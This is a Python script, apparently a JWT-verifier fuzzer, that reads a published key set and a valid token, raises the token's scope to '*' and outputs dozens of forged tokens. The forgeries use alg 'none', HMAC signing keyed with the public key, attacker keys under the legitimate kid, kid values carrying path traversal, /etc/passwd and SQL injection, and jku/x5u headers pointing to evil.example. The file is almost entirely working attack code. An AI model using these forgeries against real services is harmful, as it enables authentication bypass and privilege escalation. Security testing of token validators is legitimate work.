import base64, hashlib, hmac, json, sys
import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

given = json.load(sys.stdin)
published = given["jwks"]["keys"][0]
kid = published["kid"]
ours = jwt.PyJWK(published).key
claims = jwt.decode(given["token"], options={"verify_signature": False})
claims["scope"] = "*"

theirs = {
    "ES256": ec.generate_private_key(ec.SECP256R1()),
    "ES384": ec.generate_private_key(ec.SECP384R1()),
    "EdDSA": ed25519.Ed25519PrivateKey.generate(),
    "RS256": rsa.generate_private_key(65537, 2048),
}
theirs["PS256"] = theirs["RS256"]


def encode(part):
    return base64.urlsafe_b64encode(part).rstrip(b"=").decode()


def by_hand(header, sign):
    message = f"{encode(json.dumps(header).encode())}.{encode(json.dumps(claims).encode())}"
    return f"{message}.{encode(sign(message.encode()))}"


def hmac_with(secret, name="HS256", algorithm=hashlib.sha256):
    header = {"alg": name, "kid": kid, "typ": "at+jwt"}
    return by_hand(header, lambda message: hmac.new(secret, message, algorithm).digest())


def signed(algorithm, key_id=kid, **header):
    header = {"kid": key_id, "typ": "at+jwt", **header}
    return jwt.encode(claims, theirs[algorithm], algorithm=algorithm, headers=header)


def public(key, encoding, form):
    return key.public_bytes(encoding, form)


Encoding, Public = serialization.Encoding, serialization.PublicFormat
forged = {}
# No signature.
for name in ["none", "None", "NONE", "nOnE"]:
    forged[f"alg {name}"] = by_hand({"alg": name, "kid": kid, "typ": "at+jwt"}, lambda message: b"")
forged["alg none by PyJWT"] = jwt.encode(claims, None, algorithm="none", headers={"typ": "at+jwt"})
forged["no alg"] = by_hand({"kid": kid, "typ": "at+jwt"}, lambda message: b"")
forged["the right alg without a signature"] = by_hand({"alg": "ES256", "kid": kid, "typ": "at+jwt"}, lambda message: b"")
forged["a signature of zeros"] = by_hand({"alg": "ES256", "kid": kid, "typ": "at+jwt"}, lambda message: bytes(64))
# Our public key as a shared secret, in every form that it has.
pem = public(ours, Encoding.PEM, Public.SubjectPublicKeyInfo)
forms = {
    "PEM": pem,
    "PEM without the last line break": pem.strip(),
    "DER": public(ours, Encoding.DER, Public.SubjectPublicKeyInfo),
    "point": public(ours, Encoding.X962, Public.UncompressedPoint),
    "JWK": json.dumps(published).encode(),
    "x": published["x"].encode(),
    "kid": kid.encode(),
    "nothing": b"",
}
for name, secret in forms.items():
    forged[f"HS256 with our public key as {name}"] = hmac_with(secret)
    forged[f"HS512 with our public key as {name}"] = hmac_with(secret, "HS512", hashlib.sha512)
# Keys of their own, under our name.
for algorithm in theirs:
    forged[f"{algorithm} under our kid"] = signed(algorithm)
# Names that lead elsewhere.
for name in [
    "unknown", "", "../../../../../../dev/null", "/etc/passwd", "file:///dev/null", "https://evil.example/jwks.json",
    "' UNION SELECT 'x", "\u0000", kid + "\u0000", kid.lower(), "k" * 3000,
]:
    forged[f"kid {name[:30]!r}"] = signed("ES256", name)
# Keys that the token brings along.
own = json.loads(jwt.algorithms.ECAlgorithm.to_jwk(theirs["ES256"].public_key()))
der = encode(public(theirs["ES256"].public_key(), Encoding.DER, Public.SubjectPublicKeyInfo))
for name, header in {
    "jwk": {"jwk": own},
    "jwk with our kid": {"jwk": {**own, "kid": kid}},
    "jku": {"jku": "https://evil.example/jwks.json"},
    "x5u": {"x5u": "https://evil.example/cert.pem"},
    "x5c": {"x5c": [der]},
}.items():
    forged[name] = signed("ES256", **header)
    forged[f"{name} under its own kid"] = signed("ES256", "own", **header)
# Our signature under other words.
head, body, signature = given["token"].split(".")
forged["other claims under our signature"] = f"{head}.{encode(json.dumps({**claims, 'sub': '1000'}).encode())}.{signature}"
forged["our signature under another header"] = f"{encode(json.dumps({'alg': 'ES256', 'kid': kid, 'typ': 'at+jwt', 'x': 1}).encode())}.{body}.{signature}"
forged["crit"] = f"{encode(json.dumps({'alg': 'ES256', 'kid': kid, 'typ': 'at+jwt', 'crit': ['b64'], 'b64': False}).encode())}.{body}.{signature}"
forged["a signature as DER"] = f"{head}.{body}.{encode(b'0' + base64.urlsafe_b64decode(signature + '=='))}"
forged["padded"] = f"{head}.{body}.{signature}=="
forged["five parts"] = f"{given['token']}.{body}.{signature}"
forged["JSON serialization"] = json.dumps({"protected": head, "payload": body, "signature": signature})
json.dump(forged, sys.stdout)
